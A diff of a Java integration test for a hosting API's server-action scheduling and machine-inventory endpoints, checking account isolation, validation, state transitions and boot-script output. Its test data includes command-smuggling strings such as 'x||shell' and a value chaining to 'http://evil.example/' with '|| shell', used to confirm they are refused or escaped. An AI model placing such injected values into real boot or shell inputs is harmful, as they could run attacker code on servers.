@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import jakarta.json.Json;
+import jakarta.json.JsonArray;
 import jakarta.json.JsonObject;
 import jakarta.json.JsonObjectBuilder;
 import jakarta.json.JsonValue;
@@ -23,8 +24,8 @@ import java.util.concurrent.Executors;
 import java.util.concurrent.Future;
 import java.util.concurrent.ThreadLocalRandom;
 import java.util.concurrent.atomic.AtomicInteger;
-import java.util.regex.Pattern;
 import net.hostingapi.support.Api;
+import net.hostingapi.support.Database;
 import net.hostingapi.support.Deployments;
 import net.hostingapi.support.ServiceTest;
 import org.jboss.arquillian.container.test.api.Deployment;
@@ -49,7 +50,11 @@ import org.junit.jupiter.api.Test;
 class ServerActionsIT {
 
     private static final String ACTIONS = "/api/v1/datacenter/server-actions";
-    private static final AtomicInteger MACHINES = new AtomicInteger();
+    private static final String MACHINES = "/api/v1/datacenter/machines";
+    private static final Map<Api, String> OWNERS =
+            java.util.Collections.synchronizedMap(new java.util.IdentityHashMap<>());
+    private static final Set<String> REGISTERED = new java.util.HashSet<>();
+    private static final AtomicInteger MACHINE_NUMBERS = new AtomicInteger();
     private static final int RUN = ThreadLocalRandom.current().nextInt(1, 250);
 
     @Deployment(testable = false)
@@ -64,7 +69,7 @@ class ServerActionsIT {
     private record Machine(String mac, String ip) {}
 
     private static Machine newMachine() {
-        int n = MACHINES.incrementAndGet();
+        int n = MACHINE_NUMBERS.incrementAndGet();
         return new Machine(
                 String.format("02:5a:%02x:00:%02x:%02x", RUN, n / 256, n % 256),
                 "10." + RUN + "." + (n / 250) + "." + (n % 250 + 1));
@@ -135,8 +140,62 @@ class ServerActionsIT {
         return body.build();
     }
 
-    private static JsonObject create(Api owner, Machine machine, String action, String template) {
-        Api.Response created = owner.json("POST", ACTIONS + "/create", schedule(machine, action, template, null));
+    /** A new customer account; its owner's username is kept for the registration of its machines. */
+    private Api customer() {
+        Api.Customer customer = Api.at(base).newCustomer();
+        OWNERS.put(customer.api(), customer.username());
+        return customer.api();
+    }
+
+    /** Registers {@code machine} to {@code owner}'s account through the operator, once. */
+    private Machine register(Api owner, Machine machine) {
+        synchronized (REGISTERED) {
+            if (REGISTERED.add(machine.mac().toLowerCase())) {
+                Api.Response registered = Api.at(base)
+                        .asOperator()
+                        .json(
+                                "POST",
+                                MACHINES + "/create",
+                                Json.createObjectBuilder()
+                                        .add("customer", OWNERS.get(owner))
+                                        .add("mac_address", machine.mac())
+                                        .add(
+                                                "addresses",
+                                                Json.createArrayBuilder().add(machine.ip()))
+                                        .build());
+                assertEquals(201, registered.status(), registered.body());
+            }
+        }
+        return machine;
+    }
+
+    private Api.Response scheduleWithoutRegistering(Api owner, Machine machine) {
+        return owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null));
+    }
+
+    /** The id of {@code owner}'s machine, as its list names it. */
+    private static long machineId(Api owner, Machine machine) {
+        return owner.get(MACHINES).data().getJsonArray("machines").getValuesAs(JsonObject.class).stream()
+                .filter(m -> m.getString("mac_address").equals(machine.mac().toLowerCase()))
+                .findFirst()
+                .orElseThrow()
+                .getJsonNumber("id")
+                .longValueExact();
+    }
+
+    /** The envelope without what differs between any two answers (request ids). */
+    private static String withoutRequestIds(Api.Response response) {
+        return response.envelope().getJsonObject("messages").toString();
+    }
+
+    /** Schedules on {@code machine}, registered to {@code owner} first if it is not yet. */
+    private Api.Response scheduleOn(Api owner, Machine machine, String action, String template, String hostname) {
+        register(owner, machine);
+        return owner.json("POST", ACTIONS + "/create", schedule(machine, action, template, hostname));
+    }
+
+    private JsonObject create(Api owner, Machine machine, String action, String template) {
+        Api.Response created = scheduleOn(owner, machine, action, template, null);
         assertEquals(201, created.status(), created.body());
         return created.data().getJsonObject("action");
     }
@@ -183,8 +242,8 @@ class ServerActionsIT {
 
     @Test
     void schedulingAnswersTheActionWithANumericId() {
-        Api owner = Api.at(base).newCustomer().api();
-        Machine machine = newMachine();
+        Api owner = customer();
+        Machine machine = register(owner, newMachine());
         Api.Response created = owner.json(
                 "POST",
                 ACTIONS + "/create",
@@ -226,7 +285,7 @@ class ServerActionsIT {
 
     @Test
     void schedulingValidatesEveryField() {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Api.Response bad = owner.json(
                 "POST",
                 ACTIONS + "/create",
@@ -241,65 +300,361 @@ class ServerActionsIT {
         assertEquals(Set.of("mac_address", "address", "action", "template", "hostname"), Set.copyOf(bad.errorFields()));
 
         Machine machine = newMachine();
-        Api.Response noTemplate = owner.json("POST", ACTIONS + "/create", schedule(machine, "INSTALL", null, null));
+        Api.Response noTemplate = scheduleOn(owner, machine, "INSTALL", null, null);
         assertEquals(422, noTemplate.status(), noTemplate.body());
         assertEquals(List.of("template"), noTemplate.errorFields());
         assertEquals(List.of(4221), noTemplate.errorCodes());
-        Api.Response templateForRescue =
-                owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", "debian-12", null));
+        Api.Response templateForRescue = scheduleOn(owner, machine, "RESCUE", "debian-12", null);
         assertEquals(422, templateForRescue.status());
         assertEquals(List.of(4225), templateForRescue.errorCodes());
         for (String injection : List.of("${net0/mac}", "x||shell", "#x", "-x", "a b")) {
-            Api.Response refused =
-                    owner.json("POST", ACTIONS + "/create", schedule(machine, "INSTALL", injection, null));
+            Api.Response refused = scheduleOn(owner, machine, "INSTALL", injection, null);
             assertEquals(422, refused.status(), injection);
             assertEquals(List.of("template"), refused.errorFields());
         }
         Api.Response missing = owner.json(
                 "POST", ACTIONS + "/create", Json.createObjectBuilder().build());
-        assertEquals(Set.of("mac_address", "address", "action"), Set.copyOf(missing.errorFields()));
+        assertEquals(Set.of("mac_address", "action"), Set.copyOf(missing.errorFields()));
         assertEquals(0, owner.get(ACTIONS).data().getJsonArray("actions").size(), "nothing stored");
     }
 
     @Test
     void aMachineHasAtMostOneUnfinishedAction() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
-        Api other = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long first = id(create(owner, machine, "RESCUE", null));
 
-        Machine sameMac = new Machine(machine.mac().toUpperCase(), newMachine().ip());
+        Machine sameMac = new Machine(machine.mac().toUpperCase(), machine.ip());
         assertError(owner.json("POST", ACTIONS + "/create", schedule(sameMac, "LOCAL_BOOT", null, null)), 409, 4090);
-        Machine sameIp = new Machine(newMachine().mac(), machine.ip());
-        assertError(owner.json("POST", ACTIONS + "/create", schedule(sameIp, "LOCAL_BOOT", null, null)), 409, 4090);
-        Api.Response elsewhere = other.json("POST", ACTIONS + "/create", schedule(machine, "LOCAL_BOOT", null, null));
-        assertError(elsewhere, 409, 4090);
-        // the messages and data, as a whole number: the request id, a UUID, may hold the digits by chance, and
-        // the machine's own MAC and IP address, which the caller sent, may too (02:5a:13:00:00:11 and action 11)
-        String said = (elsewhere.envelope().getJsonObject("messages").toString()
-                        + elsewhere.envelope().get("data"))
-                .replaceAll("(?i)" + Pattern.quote(machine.mac()), "<the machine's MAC>")
-                .replace(machine.ip(), "<the machine's IP>");
-        assertFalse(said.matches("(?s).*\\b" + first + "\\b.*"), "nothing said of whose action it is: " + said);
+        assertError(
+                owner.json(
+                        "POST",
+                        ACTIONS + "/create",
+                        Json.createObjectBuilder()
+                                .add("machine", machineId(owner, machine))
+                                .add("action", "LOCAL_BOOT")
+                                .build()),
+                409,
+                4090);
 
         assertEquals(200, report(machine, "RUNNING", 5, "Rescue system booted").status());
-        assertError(owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null)), 409, 4090);
+        assertError(scheduleOn(owner, machine, "RESCUE", null, null), 409, 4090);
 
         assertEquals(200, owner.json("POST", ACTIONS + "/cancel", idBody(first)).status());
-        long second = id(create(other, machine, "RESCUE", null));
+        long second = id(create(owner, machine, "RESCUE", null));
         assertNotEquals(first, second, "once finished, the machine may get a new action");
+    }
+
+    /**
+     * The audit's case: account B schedules RESCUE on a machine of account A. B gets 404, exactly
+     * as for a machine that does not exist, and the machine's next boot runs A's action.
+     */
+    @Test
+    void anotherAccountsMachineIsNotFoundAndKeepsItsOwnersAction() throws Exception {
+        Api a = customer();
+        Api b = customer();
+        Machine machine = register(a, newMachine());
+        Machine nowhere = newMachine();
+
+        Api.Response byMac = b.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null));
+        Api.Response byId = b.json(
+                "POST",
+                ACTIONS + "/create",
+                Json.createObjectBuilder()
+                        .add("machine", machineId(a, machine))
+                        .add("action", "RESCUE")
+                        .build());
+        Api.Response unknown = b.json("POST", ACTIONS + "/create", schedule(nowhere, "RESCUE", null, null));
+        Api.Response unknownId = b.json(
+                "POST",
+                ACTIONS + "/create",
+                Json.createObjectBuilder()
+                        .add("machine", Long.MAX_VALUE / 2)
+                        .add("action", "RESCUE")
+                        .build());
+        for (Api.Response refused : List.of(byMac, byId, unknown, unknownId)) {
+            assertError(refused, 404, 4040);
+        }
+        assertEquals(
+                withoutRequestIds(unknown),
+                withoutRequestIds(byMac),
+                "a foreign machine reads as one that does not exist");
+        assertEquals(withoutRequestIds(unknownId), withoutRequestIds(byId));
+        assertEquals(0, b.get(ACTIONS).data().getJsonArray("actions").size(), "nothing scheduled for B");
+        assertEquals(0, b.get(MACHINES).data().getJsonArray("machines").size(), "B sees none of A's machines");
+        assertLocalBoot(file(machine, machine.mac()));
+
+        long id = id(create(a, machine, "RESCUE", null));
+        Api.Response boots = file(machine, machine.mac());
+        assertScript(boots);
+        assertTrue(boots.body().contains("# Server action " + id + ": RESCUE\n"), boots.body());
+        assertError(b.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null)), 404, 4040);
+    }
+
+    @Test
+    void theOperatorRegistersListsAndRemovesMachines() throws Exception {
+        Api.Customer customer = Api.at(base).newCustomer();
+        Api owner = customer.api();
+        OWNERS.put(owner, customer.username());
+        Api operator = Api.at(base).asOperator();
+        Machine machine = newMachine();
+        String second = newMachine().ip();
+        Api.Response created = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", customer.username())
+                        .add("mac_address", machine.mac().toUpperCase().replace(':', '-'))
+                        .add(
+                                "addresses",
+                                Json.createArrayBuilder().add(machine.ip()).add(second))
+                        .add("hostname", "Web1.Example.com")
+                        .build());
+        assertEquals(201, created.status(), created.body());
+        assertEquals(
+                2033,
+                created.envelope()
+                        .getJsonObject("messages")
+                        .getJsonArray("success")
+                        .getJsonObject(0)
+                        .getInt("code"));
+        JsonObject registered = created.data().getJsonObject("machine");
+        assertEquals(JsonValue.ValueType.NUMBER, registered.get("id").getValueType());
+        assertEquals(customer.username(), registered.getString("customer"));
+        assertEquals(machine.mac(), registered.getString("mac_address"), "stored in one spelling");
+        assertEquals(
+                List.of(machine.ip(), second),
+                registered.getJsonArray("addresses").getValuesAs(jakarta.json.JsonString::getString));
+        assertEquals("web1.example.com", registered.getString("hostname"));
+        synchronized (REGISTERED) {
+            REGISTERED.add(machine.mac());
+        }
+
+        List<JsonObject> listed =
+                owner.get(MACHINES).data().getJsonArray("machines").getValuesAs(JsonObject.class);
+        assertEquals(List.of(registered), listed, "the account lists its machine");
+        assertTrue(
+                operator.get(MACHINES).data().getJsonArray("machines").getValuesAs(JsonObject.class).stream()
+                        .anyMatch(m -> m.equals(registered)),
+                "the operator sees every account's machines");
+
+        // A MAC or IP address belongs to at most one machine.
+        Api.Response sameMac = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", customer.username())
+                        .add("mac_address", machine.mac())
+                        .add(
+                                "addresses",
+                                Json.createArrayBuilder().add(newMachine().ip()))
+                        .build());
+        assertError(sameMac, 409, 4090);
+        Api.Response sameIp = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", customer.username())
+                        .add("mac_address", newMachine().mac())
+                        .add("addresses", Json.createArrayBuilder().add(second))
+                        .build());
+        assertError(sameIp, 409, 4090);
+        Api.Response invalid = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", "no-such-customer-" + RUN)
+                        .add("mac_address", "aa:bb:cc")
+                        .add("addresses", Json.createArrayBuilder().add("10.0.0.300"))
+                        .add("hostname", "web_1")
+                        .build());
+        assertEquals(422, invalid.status(), invalid.body());
+        assertEquals(Set.of("mac_address", "addresses[0]", "hostname"), Set.copyOf(invalid.errorFields()));
+        Api.Response noAddresses = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", customer.username())
+                        .add("mac_address", newMachine().mac())
+                        .add("addresses", Json.createArrayBuilder())
+                        .build());
+        assertEquals(422, noAddresses.status(), noAddresses.body());
+        Api.Response unknownCustomer = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", "no-such-customer-" + RUN)
+                        .add("mac_address", newMachine().mac())
+                        .add(
+                                "addresses",
+                                Json.createArrayBuilder().add(newMachine().ip()))
+                        .build());
+        assertEquals(422, unknownCustomer.status(), unknownCustomer.body());
+        assertEquals(List.of("customer"), unknownCustomer.errorFields());
+
+        // Customers neither register nor remove machines.
+        assertError(
+                owner.json(
+                        "POST",
+                        MACHINES + "/create",
+                        Json.createObjectBuilder()
+                                .add("customer", customer.username())
+                                .add("mac_address", newMachine().mac())
+                                .add(
+                                        "addresses",
+                                        Json.createArrayBuilder()
+                                                .add(newMachine().ip()))
+                                .build()),
+                403,
+                4030);
+        assertError(owner.json("POST", MACHINES + "/delete", idBody(id(registered))), 403, 4030);
+
+        // Scheduled for the second address, the action is reported from either address of the machine.
+        long action = id(owner.json(
+                        "POST",
+                        ACTIONS + "/create",
+                        Json.createObjectBuilder()
+                                .add("machine", id(registered))
+                                .add("action", "RESCUE")
+                                .build())
+                .data()
+                .getJsonObject("action"));
+        assertEquals(machine.ip(), show(owner, action).getString("address"), "the first address when none is named");
+        assertEquals(
+                id(registered), show(owner, action).getJsonNumber("machine").longValueExact());
+        Api.Response fromSecond =
+                fromAddress(second, "POST", ACTIONS + "/status", status("RUNNING", 10, "Booted"), Map.of());
+        assertEquals(200, fromSecond.status(), fromSecond.body());
+        assertEquals(action, id(fromSecond.data().getJsonObject("action")));
+        assertError(
+                owner.json(
+                        "POST",
+                        ACTIONS + "/create",
+                        Json.createObjectBuilder()
+                                .add("machine", id(registered))
+                                .add("address", newMachine().ip())
+                                .add("action", "RESCUE")
+                                .build()),
+                422,
+                4222);
+
+        // Removal cancels the unfinished action and keeps its history.
+        Api.Response removed = operator.json("POST", MACHINES + "/delete", idBody(id(registered)));
+        assertEquals(200, removed.status(), removed.body());
+        assertEquals(
+                3040,
+                removed.envelope()
+                        .getJsonObject("messages")
+                        .getJsonArray("warnings")
+                        .getJsonObject(0)
+                        .getInt("code"));
+        JsonObject cancelled = show(owner, action);
+        assertEquals("CANCELLED", cancelled.getString("state"));
+        assertTrue(cancelled.isNull("machine"));
+        assertEquals(
+                "OPERATOR", cancelled.getJsonArray("reports").getJsonObject(1).getString("reported_by"));
+        assertEquals(0, owner.get(MACHINES).data().getJsonArray("machines").size());
+        assertError(operator.json("POST", MACHINES + "/delete", idBody(id(registered))), 404, 4040);
+        assertError(scheduleWithoutRegistering(owner, machine), 404, 4040);
+    }
+
+    /**
+     * Actions scheduled before the inventory (rows without a machine, as the upgrade leaves those it
+     * could not give one) keep booting and reporting until they end; registering their machine
+     * adopts the same account's and cancels another account's.
+     */
+    @Test
+    void actionsFromBeforeTheInventoryKeepWorkingUntilTheMachineIsRegistered() throws Exception {
+        Api.Customer a = Api.at(base).newCustomer();
+        Api.Customer b = Api.at(base).newCustomer();
+        OWNERS.put(a.api(), a.username());
+        Machine ofA = newMachine();
+        Machine usedByB = newMachine();
+        long aAction = legacyAction(a, ofA, "RESCUE");
+        long bAction = legacyAction(b, usedByB, "RESCUE");
+
+        Api.Response boots = file(ofA, ofA.mac());
+        assertScript(boots);
+        assertTrue(boots.body().contains("# Server action " + aAction + ": RESCUE\n"), boots.body());
+        assertEquals(200, report(usedByB, "RUNNING", 5, "Rescue system booted").status());
+        assertTrue(show(a.api(), aAction).isNull("machine"));
+        assertError(b.api().json("POST", ACTIONS + "/create", schedule(usedByB, "RESCUE", null, null)), 404, 4040);
+
+        Api operator = Api.at(base).asOperator();
+        Api.Response adopting = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", a.username())
+                        .add("mac_address", ofA.mac())
+                        .add("addresses", Json.createArrayBuilder().add(ofA.ip()))
+                        .build());
+        assertEquals(201, adopting.status(), adopting.body());
+        assertEquals(
+                0,
+                adopting.envelope()
+                        .getJsonObject("messages")
+                        .getJsonArray("warnings")
+                        .size());
+        long machine = id(adopting.data().getJsonObject("machine"));
+        assertEquals(machine, show(a.api(), aAction).getJsonNumber("machine").longValueExact(), "adopted");
+        assertEquals("PENDING", show(a.api(), aAction).getString("state"));
+
+        // the operator gives B's machine to A: B's unfinished action ends, A's machine boots locally
+        Api.Response taking = operator.json(
+                "POST",
+                MACHINES + "/create",
+                Json.createObjectBuilder()
+                        .add("customer", a.username())
+                        .add("mac_address", usedByB.mac())
+                        .add("addresses", Json.createArrayBuilder().add(usedByB.ip()))
+                        .build());
+        assertEquals(201, taking.status(), taking.body());
+        assertEquals(
+                3040,
+                taking.envelope()
+                        .getJsonObject("messages")
+                        .getJsonArray("warnings")
+                        .getJsonObject(0)
+                        .getInt("code"));
+        JsonObject cancelled = show(b.api(), bAction);
+        assertEquals("CANCELLED", cancelled.getString("state"));
+        assertTrue(cancelled.isNull("machine"), "B's action never becomes A's machine's");
+        JsonArray reports = cancelled.getJsonArray("reports");
+        assertEquals("OPERATOR", reports.getJsonObject(reports.size() - 1).getString("reported_by"));
+        assertLocalBoot(file(usedByB, usedByB.mac()));
+        assertError(report(usedByB, "RUNNING", 50, "Still here"), 404, 4040);
+        synchronized (REGISTERED) {
+            REGISTERED.add(ofA.mac());
+            REGISTERED.add(usedByB.mac());
+        }
+    }
+
+    /** An action as scheduled before the inventory: a row without a machine. */
+    private static long legacyAction(Api.Customer owner, Machine machine, String kind) {
+        long account =
+                owner.created().getJsonObject("customer").getJsonNumber("id").longValueExact();
+        Database.update(
+                "INSERT INTO server_actions (account_id, mac_address, address, action, state, state_percent,"
+                        + " created_at, updated_at) VALUES (?, ?, ?, ?, 'PENDING', 0, UTC_TIMESTAMP(), UTC_TIMESTAMP())",
+                account,
+                machine.mac(),
+                machine.ip(),
+                kind);
+        return ((Number) Database.value(
+                        "SELECT id FROM server_actions WHERE mac_address = ? AND state = 'PENDING'", machine.mac()))
+                .longValue();
     }
 
     @Test
     void concurrentSchedulesForOneMachineLeaveExactlyOne() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         ExecutorService pool = Executors.newFixedThreadPool(6);
         try {
             List<Future<Api.Response>> answers = new ArrayList<>();
             for (int i = 0; i < 6; i++) {
-                answers.add(pool.submit(
-                        () -> owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, null))));
+                answers.add(pool.submit(() -> scheduleOn(owner, machine, "RESCUE", null, null)));
             }
             List<Integer> statuses = new ArrayList<>();
             for (Future<Api.Response> answer : answers) {
@@ -315,8 +670,8 @@ class ServerActionsIT {
 
     @Test
     void anotherAccountsActionsDoNotExist() {
-        Api owner = Api.at(base).newCustomer().api();
-        Api other = Api.at(base).newCustomer().api();
+        Api owner = customer();
+        Api other = customer();
         long id = id(create(owner, newMachine(), "RESCUE", null));
         assertError(other.get(ACTIONS + "/show?id=" + id), 404, 4040);
         assertError(other.json("POST", ACTIONS + "/cancel", idBody(id)), 404, 4040);
@@ -333,7 +688,7 @@ class ServerActionsIT {
 
     @Test
     void fileChainsToThePendingActionInEverySpellingOfTheAddress() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long id = id(create(owner, machine, "INSTALL", "debian-12"));
         String upper = machine.mac().toUpperCase();
@@ -374,7 +729,7 @@ class ServerActionsIT {
 
     @Test
     void fileBootsLocallyWhenNothingIsPendingOrTheAddressIsUnknown() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine caller = newMachine();
         Api.Response unknownMac = file(caller, "02:ff:ff:ff:ff:fe");
         assertLocalBoot(unknownMac);
@@ -399,7 +754,7 @@ class ServerActionsIT {
 
     @Test
     void cancellingMakesFileBootLocally() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long id = id(create(owner, machine, "INSTALL", "debian-12"));
         assertTrue(file(machine, machine.mac()).body().contains("kernel "));
@@ -440,7 +795,7 @@ class ServerActionsIT {
 
     @Test
     void scriptsComeInTheEnvelopeWhenJsonIsAskedFor() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         create(owner, machine, "INSTALL", "alma-9");
         Map<String, String> json = Map.of("Accept", "application/json");
@@ -473,9 +828,9 @@ class ServerActionsIT {
 
     @Test
     void theMenuOffersThePendingActionAsDefault() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
-        long id = id(owner.json("POST", ACTIONS + "/create", schedule(machine, "RESCUE", null, "db1.example.com"))
+        long id = id(scheduleOn(owner, machine, "RESCUE", null, "db1.example.com")
                 .data()
                 .getJsonObject("action"));
         Api.Response menu = menu(machine, machine.mac().replace(':', '-'));
@@ -508,7 +863,7 @@ class ServerActionsIT {
 
     @Test
     void legalTransitionsAreRecordedWithTheirTime() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long id = id(create(owner, machine, "INSTALL", "debian-12"));
 
@@ -566,7 +921,7 @@ class ServerActionsIT {
 
     @Test
     void illegalTransitionsAre409AndChangeNothing() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long id = id(create(owner, machine, "INSTALL", "debian-12"));
         assertError(report(machine, "PENDING", 0, "Waiting"), 409, 4093);
@@ -592,7 +947,7 @@ class ServerActionsIT {
 
     @Test
     void reportsAreValidated() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long id = id(create(owner, machine, "RESCUE", null));
         Api.Response below = report(machine, "RUNNING", -1, "x");
@@ -626,7 +981,7 @@ class ServerActionsIT {
 
     @Test
     void aReportFromAnotherAddressIsRefused() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long id = id(create(owner, machine, "RESCUE", null));
         Machine stranger = newMachine();
@@ -643,7 +998,7 @@ class ServerActionsIT {
         assertFalse(
                 InetAddress.getByName(hostIp).isLoopbackAddress(),
                 "the test needs the service reached at a non-loopback address; it is reached at " + base);
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine host = new Machine(newMachine().mac(), hostIp);
         Machine named = newMachine();
         long hostAction = id(create(owner, host, "RESCUE", null));
@@ -694,12 +1049,14 @@ class ServerActionsIT {
         } finally {
             owner.json("POST", ACTIONS + "/cancel", idBody(hostAction));
             owner.json("POST", ACTIONS + "/cancel", idBody(namedAction));
+            // the host's own address is every run's: it leaves the inventory again
+            Api.at(base).asOperator().json("POST", MACHINES + "/delete", idBody(machineId(owner, host)));
         }
     }
 
     @Test
     void aHostileStateTextIsStoredAsSentAndEscapedInTheMenu() throws Exception {
-        Api owner = Api.at(base).newCustomer().api();
+        Api owner = customer();
         Machine machine = newMachine();
         long id = id(create(owner, machine, "RESCUE", null));
         String hostile = "ok ${net0/mac} || shell ; chain http://evil.example/ #x && exit";
